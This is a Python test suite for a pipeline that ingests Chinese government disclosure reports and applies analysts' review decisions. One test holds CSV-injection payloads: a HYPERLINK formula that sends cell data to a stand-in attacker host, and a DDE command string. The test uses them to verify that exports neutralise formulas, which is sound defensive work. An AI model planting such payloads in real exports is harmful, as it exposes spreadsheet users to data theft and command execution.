"""Review decisions (data/review/*.csv) on real reports: 洪泽区 2023 and 2024 (real/kiro_1, kiro_2)
and a seed whose outcome rows do not add up (seeds/001). The decisions are written before any
warehouse exists, keyed by the content hash of the files, as an analyst would."""
from __future__ import annotations

import csv
import hashlib
import re
import shutil
from decimal import Decimal

import duckdb
import polars as pl
import pytest
from click.testing import CliRunner
from dagster import SkipReason, build_sensor_context

from assets.checks import AUDIT_RULES
from assets.cli import main
from assets.resources import RawDirectory, ReviewDirectory, Warehouse
from assets.run import run_ingest
from assets.schedules import raw_files_sensor
from pipeline.parsing import spec
from pipeline.review import read_review
from pipeline.warehouse.spreadsheet import formula_safe
from pipeline.warehouse.sql import run_file
from pipeline.warehouse.status import status_report

from .conftest import SHARED, query

KIRO_1, KIRO_2 = SHARED / "real" / "kiro_1.txt", SHARED / "real" / "kiro_2.txt"
SEED_001 = SHARED / "seeds" / "001_138be65b98b13b66.txt"
CELLS = "report_id,table,row,column,written_value,value,page,quote,reviewer,reason\n"
FLAGS = "report_id,rule,decision,page,quote,reviewer,reason\n"


def rid(path) -> str:
    """dim_report.report_id: the first 16 hex digits of the file's SHA-256."""
    return hashlib.sha256(path.read_bytes()).hexdigest()[:16]


def decisions() -> dict[str, str]:
    """Two cell values and a dismissal that apply, a confirmation, and one stale decision of each kind."""
    k1, k2, s1 = rid(KIRO_1), rid(KIRO_2), rid(SEED_001)
    gone = rid(SHARED / "seeds" / "000_5f12d2b1ea74e05c.txt")
    cells = CELLS + "\n".join([
        f'{k1},fact_review_litigation,review,total,0,11,4,"行政复议 10 1 0 0 0",li.wei,总计 misprinted: 10 + 1',
        f'{s1},fact_application,unavailable_not_held,total,1,0,2,"不掌握 … 0",wang.fang,the 1 is in the next row',
        f'{k1},fact_proactive_disclosure,administrative_license,decisions,550,5500,2,"行政许可 5500",li.wei,digit lost',
        f'{gone},fact_application,granted,total,0,1,1,"予以公开 1",li.wei,a report this warehouse lacks',
        f'{k2},fact_application,granted,total,49,51,3,"予以公开 51",li.wei,made against an older reading',
        f'{k1},fact_application,other_other,total,,2,3,"（六）3.其他 2",li.wei,kiro_1 has one 其他处理 row',
    ]) + "\n"
    flags = FLAGS + "\n".join([
        f'{k2},narrative_mismatch,dismissed,1,"区政府办代表区政府受理政府信息公开申请17件",li.wei,17 is the office\'s own',
        f"{k1},review_total,confirmed,4,,li.wei,the totals are misprinted",
        f"{k1},continuity,dismissed,,,li.wei,no such flag",
    ]) + "\n"
    return {"cells.csv": cells, "flags.csv": flags}


def write(directory, files: dict[str, str]):
    directory.mkdir(exist_ok=True)
    for name, text in files.items():
        (directory / name).write_text(text, encoding="utf-8")
    return directory


def raw_dir(tmp_path, *paths):
    raw = tmp_path / "raw"
    raw.mkdir(exist_ok=True)
    for path in paths:
        shutil.copy(path, raw / path.name)
    return raw


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("reviewed")
    review = write(tmp / "review", decisions())
    wh = tmp / "ogi.duckdb"
    outcome = run_ingest(raw_dir(tmp, KIRO_1, KIRO_2, SEED_001), wh, review_dir=review)
    assert outcome.error is None
    return wh, outcome


def outcomes(wh) -> dict[tuple, str]:
    return {(f, line): o for f, line, o in query(wh, "SELECT file, line, outcome FROM review_decision")}


def test_a_reviewed_cell_shows_in_the_views_and_the_fact_keeps_the_written_value(reviewed):
    wh, _ = reviewed
    k1 = rid(KIRO_1)
    assert query(wh, "SELECT count FROM fact_review_litigation WHERE report_id = ? AND proceeding = 'review' "
                     "AND result = 'total'", [k1]) == [(0,)]
    assert query(wh, "SELECT count, written_count, reviewed FROM v_fact_review_litigation WHERE report_id = ? "
                     "AND proceeding = 'review' AND result = 'total'", [k1]) == [(11, 0, True)]
    # 2024's review total against the reviewed 2023 one
    assert query(wh, "SELECT prev_count FROM v_review_yoy WHERE report_year = 2024 AND proceeding = 'review' "
                     "AND result = 'total'") == [(11,)]
    assert query(wh, """SELECT written_value, reviewed_value, page, quote, reviewer, reason FROM v_reviewed_cell
                        WHERE report_id = ? AND row_code = 'review'""", [k1]) == [
        (Decimal(0), Decimal(11), "4", "行政复议 10 1 0 0 0", "li.wei", "总计 misprinted: 10 + 1")]


def test_every_analyst_view_takes_the_reviewed_value(reviewed):
    wh, _ = reviewed
    s1 = rid(SEED_001)
    assert query(wh, "SELECT unavailable FROM v_application_summary WHERE report_id = ?", [s1]) == [(0,)]
    assert query(wh, "SELECT numerator FROM v_rate WHERE report_id = ? AND metric = 'not_held_share'", [s1]) == [(0,)]
    assert query(wh, "SELECT count, prev_count FROM v_application_yoy WHERE report_id = ? "
                     "AND item = 'unavailable_not_held' AND applicant_type = 'total'", [s1]) == [(0, None)]
    assert query(wh, "SELECT prev_value FROM v_proactive_yoy WHERE report_year = 2024 "
                     "AND item = 'administrative_license' AND measure = 'decisions'") == [(Decimal(5500),)]
    # 550 -> 9487 was a jump; 5500 -> 9487 is not
    assert query(wh, "SELECT quantity FROM v_yoy_jump WHERE section = 'proactive'") == []
    # the written values stay: the natural_person cell was not reviewed
    assert query(wh, "SELECT count, reviewed FROM v_fact_application WHERE report_id = ? "
                     "AND item = 'unavailable_not_held' AND applicant_type = 'natural_person'", [s1]) == [(1, False)]


def test_a_dismissed_flag_leaves_the_counts_and_a_confirmed_one_says_who(reviewed):
    wh, _ = reviewed
    k1, k2 = rid(KIRO_1), rid(KIRO_2)
    assert query(wh, "SELECT count(*) FROM report_issue WHERE report_id = ? AND rule = 'narrative_mismatch'",
                 [k2]) == [(1,)]
    assert query(wh, "SELECT warnings FROM v_report WHERE report_id = ?", [k2]) == [(0,)]
    assert query(wh, "SELECT DISTINCT confirmed_by FROM v_issue WHERE report_id = ? AND rule = 'review_total'",
                 [k1]) == [("li.wei",)]
    con = duckdb.connect(str(wh), read_only=True)
    try:
        audit = {rule for rule, _, _ in run_file(con, "queries/audit_flags", {"rules": AUDIT_RULES})}
        flags = dict(run_file(con, "queries/status_flags"))
    finally:
        con.close()
    assert "narrative_mismatch" not in audit and "narrative_mismatch" not in flags
    assert flags["review_total"] == 1            # confirmed flags still count


def test_stale_decisions_are_reported_with_the_numbers_and_not_applied(reviewed):
    wh, outcome = reviewed
    assert outcomes(wh) == {("cells.csv", 2): "applied", ("cells.csv", 3): "applied", ("cells.csv", 4): "applied",
                            ("cells.csv", 5): "report_missing", ("cells.csv", 6): "written_value_changed",
                            ("cells.csv", 7): "cell_missing", ("flags.csv", 2): "applied",
                            ("flags.csv", 3): "applied", ("flags.csv", 4): "flag_missing"}
    (detail,) = query(wh, "SELECT outcome_detail FROM review_decision WHERE outcome = 'written_value_changed'")[0]
    assert detail.startswith("decided against the written value 49, the report now reads 50")
    assert query(wh, "SELECT count FROM v_fact_application WHERE report_id = ? AND item = 'granted' "
                     "AND applicant_type = 'total'", [rid(KIRO_2)]) == [(50,)]
    assert outcome.checks["review_decisions"] == "warning"
    notes = [n for n in outcome.summary.notes if n.startswith("review ")]
    assert [n.split(" ")[1] for n in notes] == ["cells.csv:5", "cells.csv:6", "cells.csv:7", "flags.csv:4"]
    assert outcome.summary.review == {"applied": 5, "cell_missing": 1, "flag_missing": 1, "report_missing": 1,
                                      "written_value_changed": 1}
    status = status_report(wh)
    assert ("review decisions (review_decision): 5 applied, 1 cell_missing, 1 flag_missing, 1 report_missing, "
            "1 written_value_changed") in status
    assert "cells.csv:6 written_value_changed: decided against the written value 49" in status


def test_decisions_outlive_a_rebuild_and_wait_for_a_report_that_is_not_there(tmp_path, reviewed):
    """A new warehouse re-parses every report: the same decisions apply by report_id and codes.
    Built without kiro_1 first, its decisions are report_missing; once it arrives they apply."""
    wh_first, _ = reviewed
    review = write(tmp_path / "review", decisions())
    wh = tmp_path / "ogi.duckdb"
    raw = raw_dir(tmp_path, KIRO_2, SEED_001)
    run_ingest(raw, wh, review_dir=review)
    waiting = {k for k, o in outcomes(wh).items() if o == "report_missing"}
    assert waiting == {("cells.csv", 2), ("cells.csv", 4), ("cells.csv", 5), ("cells.csv", 7), ("flags.csv", 3),
                       ("flags.csv", 4)}
    assert query(wh, "SELECT count(*) FROM v_reviewed_cell") == [(1,)]           # seed 001's
    shutil.copy(KIRO_1, raw / KIRO_1.name)
    run_ingest(raw, wh, review_dir=review)
    assert outcomes(wh) == outcomes(wh_first)
    same = "SELECT report_id, fact_table, row_code, column_code, written_value, reviewed_value FROM v_reviewed_cell ORDER BY ALL"
    assert query(wh, same) == query(wh_first, same)


def test_a_decision_follows_its_report_into_a_merge_and_goes_stale_when_a_better_read_copy_conflicts(tmp_path):
    """洪泽区 2023 reviewed, then republished twice. A copy with one narrative sentence revised
    states the same numbers: it is merged with the reviewed file into one report, and the decisions
    keep applying to that report, whichever of the two files it shows first. A copy that prints
    the 行政复议 总计 (11 where the reviewed file prints 0) states other numbers, no date tells them
    apart, and it reads better (one broken total fewer): it is current, the reviewed file is
    conflicting, and the decisions stay bound to the file they were made on and say so."""
    k1 = rid(KIRO_1)
    review = write(tmp_path / "review", {
        "cells.csv": CELLS + f'{k1},fact_review_litigation,review,total,0,11,4,"行政复议 10 1 0 0 0",li.wei,misprinted\n',
        "flags.csv": FLAGS + f"{k1},review_total,dismissed,4,,li.wei,the totals are misprinted\n"})
    raw, wh = raw_dir(tmp_path, KIRO_1), tmp_path / "ogi.duckdb"
    run_ingest(raw, wh, review_dir=review)
    assert set(outcomes(wh).values()) == {"applied"}
    text = KIRO_1.read_text(encoding="utf-8")
    (raw / "kiro_1 revised.txt").write_text(text.replace("一、总体情况", "一、总体情况（修订版）", 1), encoding="utf-8")
    run_ingest(raw, wh, review_dir=review)
    (current,) = query(wh, "SELECT report_id FROM v_report")[0]
    assert query(wh, "SELECT count(*), count(*) FILTER (status = 'merged') FROM dim_report") == [(2, 1)]
    assert set(outcomes(wh).values()) == {"applied"}
    assert query(wh, "SELECT count, reviewed FROM v_fact_review_litigation WHERE report_id = ? "
                     "AND proceeding = 'review' AND result = 'total'", [current]) == [(11, True)]
    (raw / "kiro_1 revised.txt").unlink()
    printed = "10    1      0   0    0   0    0   0   0    0   5"
    (raw / "kiro_1 corrected.txt").write_text(text.replace(printed, printed.replace("0   0    0", "0   0    11", 1)),
                                              encoding="utf-8")
    outcome = run_ingest(raw, wh, review_dir=review)
    (current,) = query(wh, "SELECT report_id FROM v_report")[0]
    assert current != k1 and query(wh, "SELECT status FROM dim_report WHERE report_id = ?", [k1]) == [("conflicting",)]
    assert query(wh, "SELECT count, reviewed FROM v_fact_review_litigation WHERE report_id = ? "
                     "AND proceeding = 'review' AND result = 'total'", [current]) == [(11, False)]
    assert outcomes(wh) == {("cells.csv", 2): "report_superseded", ("flags.csv", 2): "report_superseded"}
    assert query(wh, "SELECT count(*) FROM v_reviewed_cell") == [(0,)]
    (detail,) = query(wh, "SELECT outcome_detail FROM review_decision WHERE file = 'cells.csv'")[0]
    assert current in detail and "kiro_1 corrected.txt" in detail and "conflicting" in detail
    assert outcome.summary.review == {"report_superseded": 2} and outcome.summary.conflicting == 1
    assert any(n.startswith("review cells.csv:2 report_superseded: ") for n in outcome.summary.notes)


def test_malformed_lines_are_reported_and_the_good_ones_apply(tmp_path):
    k1 = rid(KIRO_1)
    good = [f'{k1},fact_review_litigation,review,total,0,11,4,"行政复议 10 1 0 0 0",li.wei,总计 misprinted',
            f'{k1},fact_application,other_processing,total,0,blank,3,"（六）其他处理 /",li.wei,the cell is a slash']
    lines = {
        f'{k1},fact_applicaton,granted,total,0,1,1,"q",li.wei,typo': "table 'fact_applicaton' is not one of",
        f'{k1},fact_application,granted_in_full,total,0,1,1,"q",li.wei,r': "row 'granted_in_full' is not a row code",
        f'{k1},fact_application,granted,everyone,0,1,1,"q",li.wei,r': "column 'everyone' is not a column code",
        f'{k1},fact_application,granted,total,0,一,1,"q",li.wei,r': "value '一' is not a number (write blank",
        f'{k1},fact_application,granted,total,0,-1,1,"q",li.wei,r': "value '-1' is negative",
        f'{k1},fact_application,granted,total,0,1.5,1,"q",li.wei,r': "value '1.5' is not a whole number",
        f'{k1[:8]},fact_application,granted,total,0,1,1,"q",li.wei,r': "is not 16 hex digits",
        f'{k1},fact_application,granted,total,0,1,1,"q",,r': "empty reviewer",
        f'{k1},fact_application,granted,total,0,,1,"q",li.wei,r': "empty value",
        f'{k1},fact_application,granted,total,0,1': "6 fields, the header has 10",
    }
    review = write(tmp_path / "review", {
        "cells.csv": CELLS + "\n".join([*good, *lines]) + "\n",
        "flags.csv": FLAGS + f"{k1},review_total,rejected,,,li.wei,r\n{k1},review_total,dismissed,,,li.wei,r\n",
        "more_flags.csv": FLAGS + f"{k1},review_total,confirmed,,,zhao.min,r\n",
        "notes.csv": "报告,意见\n1,2\n",
    })
    wh = tmp_path / "ogi.duckdb"
    outcome = run_ingest(raw_dir(tmp_path, KIRO_1), wh, review_dir=review)
    assert outcome.error is None and outcome.summary.loaded == 1
    problems = query(wh, "SELECT file, line, reason FROM review_problem ORDER BY file, line")
    cells = [reason for file, _, reason in problems if file == "cells.csv"]
    assert len(cells) == len(lines) and all(want in got for want, got in zip(lines.values(), cells))
    others = [(file, line, reason) for file, line, reason in problems if file != "cells.csv"]
    assert others[0] == ("flags.csv", 2, "decision 'rejected' is not one of confirmed, dismissed")
    # the same flag decided in two files: neither applies
    assert others[1][:2] == ("flags.csv", 3) and "also more_flags.csv:2" in others[1][2]
    assert others[2][:2] == ("more_flags.csv", 2) and "also flags.csv:3" in others[2][2]
    assert others[3][:2] == ("notes.csv", 1) and others[3][2].startswith("header '报告,意见' is neither")
    assert outcomes(wh) == {("cells.csv", 2): "applied", ("cells.csv", 3): "applied"}
    assert query(wh, "SELECT count, written_count FROM v_fact_application WHERE item = 'other_processing' "
                     "AND applicant_type = 'total'") == [(None, 0)]          # blank: NULL, never 0
    assert outcome.summary.review == {"applied": 2, "malformed": len(problems)}
    assert sum(n.startswith("review ") and " malformed: " in n for n in outcome.summary.notes) == len(problems)


def test_a_value_in_a_spelling_no_decimal_holds_is_a_malformed_line_and_the_run_loads(tmp_path):
    """Decimal() reads 0e99 (a zero DECIMAL(20,4) cannot take: it once failed the whole load,
    naming no line), 1E+39, NaN, inf, 1e-30 and 1_000; a reviewer writes digits."""
    k1 = rid(KIRO_1)
    spellings = ["0e99", "1E+39", "NaN", "inf", "-Infinity", "1e-30", "1e3", "1_000", "9" * 400]
    rows = [label.code for label in spec.APPLICATION_ROWS]        # one cell each: no line decides another's
    bad = [f'{k1},fact_application,{row},total,0,{v},1,"q",li.wei,r' for row, v in zip(rows, spellings)]
    good = [f'{k1},fact_review_litigation,review,total,0,11,4,"行政复议 10 1 0 0 0",li.wei,总计 misprinted',
            f'{k1},fact_review_litigation,review,upheld,10,-0,4,"q",li.wei,a minus zero is zero']
    review = write(tmp_path / "review", {"cells.csv": CELLS + "\n".join(good[:1] + bad[:7] + good[1:]) + "\n",
                                         "more.csv": CELLS + "\n".join(bad[7:]) + "\n"})
    wh = tmp_path / "ogi.duckdb"
    outcome = run_ingest(raw_dir(tmp_path, KIRO_1), wh, review_dir=review)
    assert outcome.error is None and outcome.summary.loaded == 1
    problems = query(wh, "SELECT file, line, reason FROM review_problem ORDER BY file, line")
    assert [(f, line) for f, line, _ in problems] == [("cells.csv", n) for n in range(3, 10)] + [("more.csv", 2),
                                                                                                ("more.csv", 3)]
    for (_, _, reason), spelling in zip(problems, spellings):
        assert reason.startswith(f"value {spelling!r} is not a number") or reason.endswith("is out of range")
    assert outcomes(wh) == {("cells.csv", 2): "applied", ("cells.csv", 10): "applied"}
    assert query(wh, "SELECT result, count FROM v_fact_review_litigation WHERE proceeding = 'review' "
                     "AND result IN ('upheld', 'total') ORDER BY result") == [("total", 11), ("upheld", 0)]
    notes = [n for n in outcome.summary.notes if " malformed: " in n]
    assert notes[0].startswith("review cells.csv:3 malformed: value '0e99' is not a number") and len(notes) == 9
    assert "review decisions (review_decision): 2 applied, 9 malformed" in status_report(wh)


def test_exported_csv_text_never_runs_as_a_formula_and_numbers_stay_numbers(tmp_path):
    """A review line's free text goes into ogi export's CSV: a quote or reason starting with = + - @
    would run in the analyst's spreadsheet (OWASP CSV injection); it gets a leading '. Parquet and
    the numbers (a negative change included) are as stored."""
    k1 = rid(KIRO_1)
    hostile = {"quote": '=HYPERLINK("http://evil.example/?"&A1,"行政复议 11")', "reviewer": "@li.wei",
               "reason": "+1 missed; -cmd|' /C calc'!A0"}
    review = write(tmp_path / "review", {"cells.csv": CELLS + (
        f'{k1},fact_review_litigation,review,total,0,11,-4,"{hostile["quote"].replace(chr(34), chr(34) * 2)}",'
        f'{hostile["reviewer"]},"{hostile["reason"]}"\n')})
    wh, out = tmp_path / "ogi.duckdb", tmp_path / "out"
    run_ingest(raw_dir(tmp_path, KIRO_1, KIRO_2), wh, review_dir=review)
    result = CliRunner().invoke(main, ["export", "--warehouse", str(wh), "--out", str(out),
                                       "--only", "review_decision", "--only", "v_application_yoy"])
    assert result.exit_code == 0, result.output
    with open(out / "review_decision.csv", encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert {k: row[k] for k in hostile} == {k: "'" + v for k, v in hostile.items()}
    assert {k: formula_safe(v) for k, v in hostile.items()} == {k: row[k] for k in hostile}   # ogi sql's rule
    assert [formula_safe(v) for v in (-4, "li.wei", None)] == [-4, "li.wei", None]
    assert (row["page"], row["reviewed_value"], row["written_value"]) == ("'-4", "11.0000", "0.0000")
    assert row["outcome"] == "applied"
    exact = pl.read_parquet(out / "review_decision.parquet").row(0, named=True)
    assert {k: exact[k] for k in hostile} == hostile
    with open(out / "v_application_yoy.csv", encoding="utf-8", newline="") as fh:
        changes = [r["change"] for r in csv.DictReader(fh) if r["change"]]
    assert any(c.startswith("-") for c in changes) and not any(c.startswith("'") for c in changes)


def test_a_spreadsheet_export_with_a_bom_or_in_gb18030_reads(tmp_path):
    k2 = rid(KIRO_2)
    text = FLAGS + f'{k2},narrative_mismatch,dismissed,1,"受理政府信息公开申请17件",李伟,办公室自己的数\n'
    (tmp_path / "a.csv").write_bytes(b"\xef\xbb\xbf" + text.replace("李伟", "a").encode("utf-8"))
    (tmp_path / "b.csv").write_bytes(text.replace(k2, rid(KIRO_1)).encode("gb18030"))
    review = read_review(tmp_path)
    assert review.problems.is_empty()
    assert review.decisions.select("report_id", "reviewer").rows() == [(k2, "a"), (rid(KIRO_1), "李伟")]


def test_a_change_to_the_review_files_alone_publishes(tmp_path):
    raw, wh, review = raw_dir(tmp_path, KIRO_2), tmp_path / "ogi.duckdb", tmp_path / "review"
    review.mkdir()
    res = {"raw": RawDirectory(path=str(raw)), "review": ReviewDirectory(path=str(review)),
           "warehouse": Warehouse(path=str(wh))}
    assert run_ingest(raw, wh, review_dir=review).summary.published
    assert not run_ingest(raw, wh, review_dir=review).summary.published           # an empty directory: nothing
    assert isinstance(raw_files_sensor(build_sensor_context(cursor=None, resources=res)), SkipReason)
    dismiss = FLAGS + f"{rid(KIRO_2)},narrative_mismatch,dismissed,1,,li.wei,the office's own count\n"
    (review / "flags.csv").write_text(dismiss, encoding="utf-8")
    assert raw_files_sensor(build_sensor_context(cursor=None, resources=res)).run_key   # the sensor sees it too
    first = run_ingest(raw, wh, review_dir=review)
    assert first.checks["review_decisions"] == "passed"
    first = first.summary
    assert first.published and (first.loaded, first.unchanged) == (0, 1) and first.review == {"applied": 1}
    assert query(wh, "SELECT warnings FROM v_report") == [(0,)]
    assert not run_ingest(raw, wh, review_dir=review).summary.published
    (review / "flags.csv").write_text(dismiss.replace("dismissed", "confirmed"), encoding="utf-8")
    assert run_ingest(raw, wh, review_dir=review).summary.published
    assert query(wh, "SELECT warnings FROM v_report") == [(1,)]
    (review / "flags.csv").unlink()
    assert run_ingest(raw, wh, review_dir=review).summary.published
    assert query(wh, "SELECT count(*) FROM review_decision UNION ALL SELECT count(*) FROM review_file") == [(0,), (0,)]


def test_ogi_ingest_and_status_show_the_decisions_and_status_reads_an_older_warehouse(tmp_path):
    wh = tmp_path / "ogi.duckdb"
    review = write(tmp_path / "review", {"flags.csv": FLAGS + "\n".join([
        f"{rid(KIRO_2)},narrative_mismatch,dismissed,1,,li.wei,the office's own count",
        f"{rid(KIRO_1)},review_total,confirmed,4,,li.wei,misprinted totals"]) + "\n"})
    ingest = CliRunner().invoke(main, ["ingest", "--raw-dir", str(raw_dir(tmp_path, KIRO_2)), "--warehouse", str(wh),
                                       "--review-dir", str(review)])
    assert ingest.exit_code == 0, ingest.output
    assert "review decisions: 1 applied, 1 report_missing" in ingest.output
    assert f"review flags.csv:3 report_missing: no loaded report has id {rid(KIRO_1)}" in ingest.output
    status = CliRunner().invoke(main, ["status", "--warehouse", str(wh)])
    assert "review decisions (review_decision): 1 applied, 1 report_missing\n  review flags.csv:3" in status.output
    assert not re.search(r"^narrative_mismatch", status.output, re.MULTILINE)
    # a warehouse no load of this version has written: no decisions, every flag stands
    con = duckdb.connect(str(wh))
    con.execute("DROP VIEW v_issue; DROP TABLE review_decision; DROP TABLE review_problem; DROP TABLE review_file")
    con.close()
    status = status_report(wh)
    assert re.search(r"^narrative_mismatch +1$", status, re.MULTILINE)
    assert "review decisions (review_decision): none" in status
